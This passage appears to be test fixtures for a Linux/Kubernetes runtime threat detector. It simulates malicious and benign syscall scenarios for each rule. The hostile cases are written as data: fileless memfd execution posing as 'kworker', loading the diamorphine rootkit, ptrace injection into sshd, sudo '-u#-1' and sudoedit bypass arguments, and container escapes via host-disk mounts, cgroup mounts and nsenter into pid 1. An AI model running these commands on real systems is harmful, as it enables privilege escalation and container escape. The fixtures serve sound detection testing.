        const py = sh.spawn(53002, PY, ['python3', '-c', 'import os;fd=os.memfd_create("x");…;os.execv(f"/proc/self/fd/{fd}",["kworker"])']);
        const fd = py.memfdCreate('x');
        py.write(fd, 2871304);
        py.exec('/memfd:x (deleted)', ['kworker'], { type: 'execveat', memfd: true, comm: fd.toString() });
      });
      f.block('runc re-executing its memfd copy; ordinary programs', (s) => {
        const sh = shim(s);
        const runc = sh.spawn(53101, '/usr/bin/runc', ['runc', '--root', '/run/containerd/runc/k8s.io', 'exec', '--process', '/tmp/runc-process1', 'c0ffee']);
        runc.spawn(53102, '/memfd:runc_cloned:/proc/self/exe (deleted)', ['runc', 'init'], { memfd: true, comm: 'runc:[2:INIT]' });
        const bash = sshLogin(s, { pid: 7000 });
        bash.spawn(7001, '/usr/bin/top', ['top']);
      });
    }),

    file('kernel-module-loaded', (f) => {
      f.block('insmod of a rootkit from a root shell; a failed load attempt from a container', (s) => {
        const alice = sshLogin(s, { pid: 7100 });
        const root = sudoRootShell(s, alice, 7101);
        const insmod = root.spawn(7103, '/usr/sbin/insmod', ['insmod', '/tmp/diamorphine.ko'], { comm: 'insmod' });
        const fd = insmod.open('/tmp/diamorphine.ko', READ);
        insmod.finitModule(fd);
        const sh = kubectlExec(s, PRIV, 54001, '/bin/sh', ['sh']);
        const ins2 = sh.spawn(54002, '/sbin/insmod', ['insmod', '/tmp/x.ko'], { comm: 'insmod' });
        ins2.finitModule(ins2.open('/tmp/x.ko', READ), { res: -1 });
      });
      f.block('kernel module requests (modprobe from kthreadd), udev, dockerd loading br_netfilter; a failed host load', (s) => {
        const kthreadd = s.proc(2, 'kthreadd');
        const mp = kthreadd.spawn(7201, '/sbin/modprobe', ['/sbin/modprobe', '-q', '--', 'nf_conntrack'], { comm: 'modprobe' });
        mp.finitModule(mp.open('/lib/modules/6.1.0-18-amd64/kernel/net/netfilter/nf_conntrack.ko', READ));
        const udev = s.host(400, 'systemd-udevd');
        const uw = udev.fork(7202);
        uw.finitModule(uw.open('/lib/modules/6.1.0-18-amd64/kernel/drivers/net/virtio_net.ko', READ));
        const dockerd = s.host(800, 'dockerd', { unit: 'docker.service' });
        const mp2 = dockerd.spawn(7203, '/sbin/modprobe', ['modprobe', 'br_netfilter'], { comm: 'modprobe' });
        mp2.finitModule(mp2.open('/lib/modules/6.1.0-18-amd64/kernel/net/bridge/br_netfilter.ko', READ));
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 7300 });
        const mp3 = root.spawn(7301, '/sbin/modprobe', ['modprobe', 'overlay'], { comm: 'modprobe' });
        mp3.finitModule(mp3.open('/lib/modules/6.1.0-18-amd64/kernel/fs/overlayfs/overlay.ko', READ), { res: -17 });
      });
    }),

    file('process-attached-with-ptrace', (f) => {
      f.block('a script attaching to pid 1 in a container; an injector seizing sshd on the host', (s) => {
        const sh = kubectlExec(s, API, 55001, '/bin/sh', ['sh']);
        sh.spawn(55002, PY, ['python3', '/tmp/inject.py', '1']).ptrace(PTRACE.ATTACH, 1);
        const alice = sshLogin(s, { pid: 7400 });
        const root = sudoRootShell(s, alice, 7401);
        root.spawn(7403, '/tmp/inject', ['./inject', '880']).ptrace(PTRACE.SEIZE, 880);
      });
      f.block('gdb and strace attaching; PTRACE_TRACEME; a peek', (s) => {
        const alice = sshLogin(s, { pid: 7500 });
        const root = sudoRootShell(s, alice, 7501);
        root.spawn(7503, '/usr/bin/gdb', ['gdb', '-p', '620']).ptrace(PTRACE.ATTACH, 620);
        root.spawn(7504, '/usr/bin/strace', ['strace', '-fp', '620']).ptrace(PTRACE.SEIZE, 620);
        const child = root.spawn(7505, '/usr/bin/valgrind', ['valgrind', './a.out']);
        child.ptrace(PTRACE.TRACEME, 0);
        root.spawn(7506, '/usr/local/bin/procdump', ['procdump', '620']).ptrace(PTRACE.PEEKDATA, 620);
      });
    }),

    file('privilege-escalation-to-root-via-setuid', (f) => {
      f.block('an exploit calling setuid(0) as uid 1000; pkexec becoming root in a user session', (s) => {
        const bash = sshLogin(s, { user: 'deploy', uid: 1002, pid: 7600 });
        bash.spawn(7601, '/tmp/cve-2023-0386', ['./cve-2023-0386']).setuid(0);
        bash.spawn(7602, '/usr/bin/pkexec', ['pkexec']).setresuid(0, 0, 0, { uidAfter: 0 });
      });
      f.block('sudo in a user session; daemons dropping privileges; cron as root', (s) => {
        const alice = sshLogin(s, { pid: 7700 });
        sudoRootShell(s, alice, 7701);
        const nginx = s.host(650, 'nginx');
        nginx.fork(7710).setuid(33, { uidAfter: 33 });
        const cron = s.host(610, 'cron');
        cron.fork(7711).setuid(0);
      });
    }),

    file('sudo-or-su-abuse', (f) => {
      f.block('su - in a container; sudo -u#-1 and sudoedit -s … \\ on the host', (s) => {
        const sh = kubectlExec(s, SHOP, 56001, '/bin/bash', ['bash'], { tty: pts(0), uid: 33 });
        sh.spawn(56002, '/bin/su', ['su', '-']);
        const bash = sshLogin(s, { user: 'deploy', uid: 1002, pid: 7800 });
        bash.spawn(7801, '/usr/bin/sudo', ['sudo', '-u#-1', '/bin/bash']);
        bash.spawn(7802, '/usr/bin/sudoedit', ['sudoedit', '-s', 'AAAAAAAA\\']);
      });
      f.block('sudo systemctl on the host; an entrypoint dropping privileges with su', (s) => {
        const bash = sshLogin(s, { pid: 7900 });
        bash.spawn(7901, '/usr/bin/sudo', ['sudo', 'systemctl', 'restart', 'nginx']);
        const ep = startContainer(s, REDIS, 56101, '/bin/sh', ['/bin/sh', '/usr/local/bin/docker-entrypoint.sh', 'redis-server'], { comm: 'docker-entrypoi' });
        ep.spawn(56102, '/bin/su', ['su', '-s', '/bin/sh', '-c', 'exec redis-server', 'redis']);
      });
    }),

    file('sensitive-host-path-mounted-in-container', (f) => {
      f.block('a host disk and a cgroup v1 hierarchy mounted from a privileged container', (s) => {
        const sh = kubectlExec(s, PRIV, 57001, '/bin/sh', ['sh']);
        sh.spawn(57002, '/bin/mount', ['mount', '/dev/nvme0n1p1', '/mnt/host']).mount('/dev/nvme0n1p1', '/mnt/host', 'ext4');
        sh.spawn(57003, '/bin/mount', ['mount', '-t', 'cgroup', '-o', 'rdma', 'cgroup', '/tmp/cgrp']).mount('cgroup', '/tmp/cgrp', 'cgroup');
      });
      f.block('runc setting up /proc; a tmpfs mount in a container; a host disk mounted on the host', (s) => {
        const runc = shim(s).spawn(57101, '/usr/bin/runc', ['runc', 'init'], { comm: 'runc:[2:INIT]', ctr: PRIV });
        runc.mount('proc', '/proc', 'proc');
        const sh = kubectlExec(s, PRIV, 57102, '/bin/sh', ['sh']);
        sh.spawn(57103, '/bin/mount', ['mount', '-t', 'tmpfs', 'tmpfs', '/mnt/scratch']).mount('tmpfs', '/mnt/scratch', 'tmpfs');
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 8000 });
        root.spawn(8001, '/bin/mount', ['mount', '/dev/sdb1', '/data']).mount('/dev/sdb1', '/data', 'xfs');
      });
      f.block('the EBS CSI node plugin (kube-system) formatting and mounting an attached volume', (s) => {
        const csi = startContainer(s, CSI, 57201, '/bin/aws-ebs-csi-driver', ['/bin/aws-ebs-csi-driver', 'node', '--endpoint=unix:/csi/csi.sock']);
        const m = csi.spawn(57202, '/bin/mount', ['mount', '-t', 'ext4', '-o', 'defaults', '/dev/nvme1n1', '/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/3f1c/globalmount']);
        m.mount('/dev/nvme1n1', '/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/3f1c/globalmount', 'ext4');
        const b = csi.spawn(57203, '/bin/mount', ['mount', '-o', 'bind', '/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/3f1c/globalmount', '/var/lib/kubelet/pods/9a2e/volumes/kubernetes.io~csi/pvc-1/mount']);
        b.mount('/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/3f1c/globalmount', '/var/lib/kubelet/pods/9a2e/volumes/kubernetes.io~csi/pvc-1/mount', 'none', 4096);
      });
    }),

    file('mount-in-container', (f) => {
      f.block('a tmpfs mount attempted in an unprivileged container (EPERM)', (s) => {
        const sh = kubectlExec(s, ALPINE, 58001, '/bin/sh', ['sh']);
        sh.spawn(58002, '/bin/mount', ['mount', '-t', 'tmpfs', 'tmpfs', '/mnt']).mount('tmpfs', '/mnt', 'tmpfs', 0, { res: -1 });
      });
      f.block('runc setting up the container; a host mount', (s) => {
        const runc = shim(s).spawn(58101, '/usr/bin/runc', ['runc', 'init'], { comm: 'runc:[2:INIT]', ctr: ALPINE });
        runc.mount('proc', '/proc', 'proc');
        runc.mount('tmpfs', '/dev', 'tmpfs');
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 8100 });
        root.spawn(8101, '/bin/mount', ['mount', '-t', 'nfs', 'nas:/exports', '/mnt/nas']).mount('nas:/exports', '/mnt/nas', 'nfs');
      });
    }),

    file('namespace-changed-in-container', (f) => {
      f.block('nsenter into pid 1\'s mount namespace and unshare -Ur from containers', (s) => {
        const sh = kubectlExec(s, PRIV, 59001, '/bin/sh', ['sh']);
        const ns = sh.spawn(59002, '/usr/bin/nsenter', ['nsenter', '-t', '1', '-m', '--', 'sh']);
        ns.setns(ns.open('/proc/1/ns/mnt', READ), CLONE_NEWNS);
        const sh2 = kubectlExec(s, ALPINE, 59101, '/bin/sh', ['sh']);
        sh2.spawn(59102, '/usr/bin/unshare', ['unshare', '-Ur', 'sh']).unshare(CLONE_NEWUSER | CLONE_NEWNS, { res: -1 });
      });
      f.block('runc joining namespaces; Chrome\'s sandbox; unshare(CLONE_FS); unshare on the host', (s) => {
        const runc = shim(s).spawn(59201, '/usr/bin/runc', ['runc', 'init'], { comm: 'runc:[2:INIT]', ctr: ALPINE });
        runc.setns(5, CLONE_NEWNS);
        const chrome = startContainer(s, CHROME, 59301, '/usr/bin/chromium', ['chromium', '--headless', '--no-zygote'], { comm: 'chromium', uid: 999 });
        chrome.fork(59302).unshare(CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNET);
        const w = startContainer(s, WORKER, 59401, '/usr/local/bin/worker', ['worker']);
        w.unshare(CLONE_FS);
        const root = sshLogin(s, { user: 'root', uid: 0, pid: 8200 });
        root.spawn(8201, '/usr/bin/unshare', ['unshare', '--net', 'ip', 'a']).unshare(CLONE_NEWNET);
      });
    }),
  ];
}
